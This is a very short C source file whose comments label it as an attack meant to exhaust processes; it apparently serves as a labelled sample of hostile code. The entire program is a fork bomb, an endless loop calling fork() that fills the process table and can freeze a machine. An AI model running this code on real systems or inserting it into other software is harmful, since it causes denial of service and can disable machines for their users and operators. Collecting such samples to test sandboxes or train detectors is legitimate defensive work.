// Wants to exhaust processes.
// attack: c io
#include <unistd.h>
int main(void) { for (;;) fork(); }
